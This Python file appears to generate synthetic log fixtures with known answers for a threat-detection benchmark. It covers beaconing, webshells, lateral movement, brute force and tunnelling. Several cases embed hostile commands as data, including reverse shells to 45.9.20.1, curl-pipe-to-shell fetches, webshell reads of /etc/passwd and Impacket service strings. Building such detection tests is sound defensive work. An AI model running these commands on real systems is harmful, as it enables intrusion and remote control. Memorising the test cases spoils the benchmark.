"""Control whose right answers are known."""

from blind_kit import *

CASES, case = cases()


def beacon(
    c,
    jitter,
    dst="104.194.9.17",
    name="",
    interval=60,
    days=2,
    hosts=12,
    size=600,
    back=900,
    src="10.1.4.25",
    hours=None,
):
    z = Zeek(c).office(days=days, hosts=hosts)
    t = at(0, 0, 1)
    while t < at(days):
        if hours is None or t.hour in hours:
            if name:
                z.q(t, src, name, answers=dst)
            z.conn(t, src, dst, 443, size + c.rng.randrange(40), back + c.rng.randrange(60), name)
        t += datetime.timedelta(seconds=interval * (1 + jitter * (c.rng.random() * 2 - 1)))
    z.save()


for j in (0, 10, 20, 30, 40, 50):
    CASES["beacon_ip_jitter_%d" % j] = ({"control": "S"}, lambda c, j=j: beacon(c, j / 100))
    CASES["beacon_name_jitter_%d" % j] = (
        {"control": "S"},
        lambda c, j=j: beacon(c, j / 100, "188.114.97.3", "cdn.imgsrv-static.com", 300),
    )


@case({"control": "S"})
def beacon_slow_hour(c):
    beacon(c, 0.2, "104.194.9.17", "", 3600, days=6)


@case({"control": "S"})
def beacon_workhours(c):
    beacon(c, 0.2, "104.194.9.17", "", 120, hours=range(9, 17))


@case({"control": "S"})
def beacon_eve(c):
    e = Eve(c).office()
    t = at(0, 0, 1)
    while t < at(2):
        e.flow(t, "10.1.4.22", "91.92.240.8", 8443, 700 + c.rng.randrange(30), 1200 + c.rng.randrange(30), app="tls")
        t += datetime.timedelta(seconds=90 * (0.8 + 0.4 * c.rng.random()))
    e.save()


@case({"control": "S"})
def beacon_dns_txt(c):
    z = Zeek(c).office()
    for i in range(1000):
        z.q(
            at(0, 0) + datetime.timedelta(seconds=170 * i + c.rng.randrange(20)),
            "10.1.4.22",
            "%s.ns1.sys-upd.net" % ("%08x" % c.rng.getrandbits(32)),
            "TXT",
            "TXT 24 " + b32(c.rng, 24),
        )
    z.save()


@case({"control": "S"})
def anydesk_net(c):
    z = Zeek(c).office()
    z.q(at(1, 15), "10.1.4.22", "relay-5a.net.anydesk.com")
    z.conn(at(1, 15, 1), "10.1.4.22", "57.128.101.74", 443, 40 * MB, 3 * MB, "relay-5a.net.anydesk.com", dur=3000)
    z.save()


@case({"control": "S"})
def anydesk_odd(c):
    wincmd(
        c,
        [
            (
                "C:\\ProgramData\\AnyDesk.exe",
                "C:\\ProgramData\\AnyDesk.exe --install C:\\ProgramData\\AnyDesk --start-with-win --silent",
            ),
            (CMD, "cmd /c echo P4ss | C:\\ProgramData\\AnyDesk.exe --set-password"),
        ],
    )


@case({"control": "S"})
def webshell_access(c):
    ac = []
    for d in range(5):
        for i in range(200):
            ac.append(
                (
                    at(d, i % 24, i % 60, 3),
                    '203.0.113.%d - - [%s] "GET /index.php?p=%d HTTP/1.1" 200 %d "-" "Mozilla/5.0"'
                    % (i % 50, at(d, i % 24, i % 60, 3).strftime("%d/%b/%Y:%H:%M:%S +0000"), i, 9000 + i),
                )
            )
    for i in range(25):
        ac.append(
            (
                at(3, 2, i),
                '185.220.101.34 - - [%s] "POST /wp-content/uploads/2026/11/img.php HTTP/1.1" 200 %d "-" "python-requests/2.31"'
                % (at(3, 2, i).strftime("%d/%b/%Y:%H:%M:%S +0000"), 300 + i * 50),
            )
        )
    for i, q in enumerate(["id", "uname%20-a", "cat%20/etc/passwd"]):
        ac.append(
            (
                at(3, 3, i),
                '185.220.101.34 - - [%s] "GET /wp-content/uploads/2026/11/img.php?cmd=%s HTTP/1.1" 200 77 "-" "python-requests/2.31"'
                % (at(3, 3, i).strftime("%d/%b/%Y:%H:%M:%S +0000"), q),
            )
        )
    c.write("access.log", "\n".join(x for _, x in sorted(ac)) + "\n")


@case({"control": "S"})
def webshell_iis_process(c):
    w = win(c, name="WEB01.corp.example")
    for i, x in enumerate(["whoami", "net user /domain", "ipconfig /all"]):
        w.run(
            at(3, 4, i),
            CMD,
            '"cmd" /c cd /d "C:\\inetpub\\wwwroot\\"&%s' % x,
            "C:\\Windows\\System32\\inetsrv\\w3wp.exe",
            "IIS APPPOOL\\DefaultAppPool",
        )
    w.save(form(c))


@case({"control": "S"})
def webshell_linux_audit(c):
    l = lin(c)
    for x in (
        ["sh", "-c", "id"],
        ["sh", "-c", "curl http://45.9.20.1/x.sh | sh"],
        [
            "python3",
            "-c",
            'import socket,subprocess,os;s=socket.socket();s.connect(("45.9.20.1",4444));os.dup2(s.fileno(),0);subprocess.call(["/bin/sh","-i"])',
        ],
    ):
        l.exec(at(3, 3), x, "/usr/bin/" + x[0], uid=33, auid=4294967295)
    l.save()


@case({"control": "S"})
def psexec_service(c):
    w = win(c)
    w.logon(at(3, 2), 3, "adm", "10.1.4.99")
    w.service(at(3, 2, 0, 5), "PSEXESVC", "%SystemRoot%\\PSEXESVC.exe")
    w.save(form(c))


@case({"control": "S"})
def impacket_service(c):
    w = win(c)
    w.service(
        at(3, 2),
        "BTOBTO",
        "%COMSPEC% /Q /c echo cd ^> \\\\127.0.0.1\\C$\\__output 2^>^&1 > %TEMP%\\execute.bat & %COMSPEC% /Q /c %TEMP%\\execute.bat & del %TEMP%\\execute.bat",
    )
    w.save(form(c))


@case({"control": "S"})
def wmi_lateral(c):
    w = win(c)
    w.run(at(3, 2), CMD, "cmd.exe /Q /c whoami 1> \\\\127.0.0.1\\ADMIN$\\__1699 2>&1", SYS + "wbem\\WmiPrvSE.exe")
    w.save(form(c))


@case({"control": "S"})
def winrm_lateral(c):
    w = win(c)
    w.run(at(3, 2), CMD, 'cmd.exe /c whoami /all & net group "Domain Admins" /domain', SYS + "wsmprovhost.exe")
    w.save(form(c))


@case({"control": "S"})
def schtasks_remote(c):
    wincmd(
        c,
        [
            (
                SYS + "schtasks.exe",
                "schtasks /create /s 10.1.4.30 /u corp\\adm /p X /tn upd /tr C:\\Windows\\Temp\\u.exe /sc once /st 03:00 /ru SYSTEM",
            ),
            (SYS + "schtasks.exe", "schtasks /run /s 10.1.4.30 /tn upd"),
        ],
    )


@case({"control": "S"})
def rdp_from_outside(c):
    w = win(c)
    w.logon(at(3, 2), 10, "administrator", "185.220.101.7")
    w.ev(
        at(3, 2),
        "Microsoft-Windows-TerminalServices-LocalSessionManager/Operational",
        21,
        {"User": "WS-17\\administrator", "SessionID": 3, "Address": "185.220.101.7"},
        user_data="EventXML",
    )
    w.save("evtx_dump")


@case({"control": "S"})
def rdp_bruteforce(c):
    w = win(c)
    for i in range(300):
        w.logon(
            at(3, 1) + datetime.timedelta(seconds=5 * i),
            3,
            c.rng.choice(["admin", "administrator", "test", "ann"]),
            "185.220.101.7",
            ok=False,
        )
    w.logon(at(3, 1, 26), 10, "administrator", "185.220.101.7")
    w.save("evtx_dump")


@case({"control": "S"})
def ssh_bruteforce(c):
    l = lin(c)
    for i in range(200):
        l.ssh(at(3, 1) + datetime.timedelta(seconds=5 * i), "root", "91.240.118.3", ok=False)
    l.ssh(at(3, 1, 20), "root", "91.240.118.3", method="password")
    l.save()


for nm, cmds in {
    "ssh_R": ["ssh -f -N -R 2222:localhost:22 tun@185.112.83.4"],
    "autossh": ["autossh -M 0 -f -N -R 0.0.0.0:33890:10.1.4.5:3389 u@185.112.83.4"],
    "ngrok": ["./ngrok tcp 3389"],
    "chisel": ["/tmp/.c client https://185.112.83.4:443 R:socks"],
    "chisel_named": ["chisel client 185.112.83.4:8080 R:1080:socks"],
    "cloudflared": ["cloudflared tunnel --url ssh://localhost:22"],
    "cloudflared_token": ["cloudflared service install eyJhIjoiNz"],
    "devtcp_shell": ["bash -i >& /dev/tcp/45.9.20.1/4444 0>&1"],
    "nc_e": ["nc -e /bin/sh 45.9.20.1 4444"],
    "mkfifo": ["rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 45.9.20.1 4444 >/tmp/f"],
    "socat": ["socat exec:'bash -li',pty,stderr,setsid,sigint,sane tcp:45.9.20.1:4444"],
    "frp": ["nohup ./frpc -c frpc.ini &"],
    "ligolo": ["./ligolo-agent -connect 45.9.20.1:11601 -ignore-cert"],
    "gsocket": ['bash -c "$(curl -fsSL https://gsocket.io/y)"'],
    "tailscale": ["tailscale up --authkey tskey-auth-kX --ssh"],
}.items():
    CASES["tunnel_" + nm] = ({"control": "S"}, lambda c, cmds=cmds: lincmd(c, cmds))
for nm, cmds in {
    "plink": [("C:\\ProgramData\\plink.exe", "plink.exe -N -R 3389:127.0.0.1:3389 -P 443 u@185.112.83.4 -pw x")],
    "ssh_win": [(SYS + "OpenSSH\\ssh.exe", "ssh.exe -N -R 1080 u@185.112.83.4")],
    "portproxy": [
        (
            SYS + "netsh.exe",
            "netsh interface portproxy add v4tov4 listenport=4455 listenaddress=0.0.0.0 connectport=3389 connectaddress=10.1.4.7",
        )
    ],
    "ngrok_win": [("C:\\Users\\Public\\ngrok.exe", "ngrok.exe tcp 3389 --authtoken 2a")],
    "cloudflared_win": [("C:\\ProgramData\\cloudflared.exe", "cloudflared.exe tunnel run --token eyJ")],
    "screenconnect": [
        (SYS + "msiexec.exe", "msiexec /i C:\\Users\\ann\\AppData\\Local\\Temp\\ScreenConnect.ClientSetup.msi /qn")
    ],
    "chisel_win": [("C:\\Windows\\Temp\\svc.exe", "svc.exe client 185.112.83.4:443 R:socks")],
    "nc_win": [("C:\\Windows\\Temp\\nc64.exe", "nc64.exe 45.9.20.1 443 -e cmd.exe")],
}.items():
    CASES["tunnel_" + nm] = ({"control": "S"}, lambda c, cmds=cmds: wincmd(c, cmds))


@case({"control": "S"})
def revshell_script(c):
    w = win(c)
    w.script(
        at(3, 2),
        "$client = New-Object System.Net.Sockets.TCPClient('45.9.20.1',4444);$stream = $client.GetStream();[byte[]]$bytes = 0..65535|%{0};while(($i = $stream.Read($bytes, 0, $bytes.Length)) -ne 0){;$data = (New-Object -TypeName System.Text.ASCIIEncoding).GetString($bytes,0, $i);$sendback = (iex $data 2>&1 | Out-String )}",
    )
    w.save(form(c))


@case({"control": "S"})
def smb_fan(c):
    z = Zeek(c).office()
    for i in range(40):
        z.conn(at(1, 2, i), "10.1.4.22", "10.1.4.%d" % (60 + i), 445, 9000, 12000, service="smb")
    z.save()


@case({})
def enter_pssession(c):
    wincmd(c, [(PSH, "powershell.exe Invoke-Command -ComputerName DC01,FS01 -ScriptBlock { whoami }")])


@case({"theft": "S"})
def theft_other_tenant(c):
    z = Zeek(c).office(days=3)
    for d in range(3):
        for i in range(20):
            z.conn(
                at(d, 8 + i % 9, c.rng.randrange(60)),
                "10.1.4.%d" % (20 + i % 11),
                "13.107.136.8",
                443,
                int(c.rng.lognormvariate(17, 1)),
                300000,
                "corp-my.sharepoint.com",
            )
    z.conn(at(1, 23), "10.1.4.22", "13.107.136.9", 443, 3 * GB, 3 * MB, "qzx44-my.sharepoint.com")
    z.save()
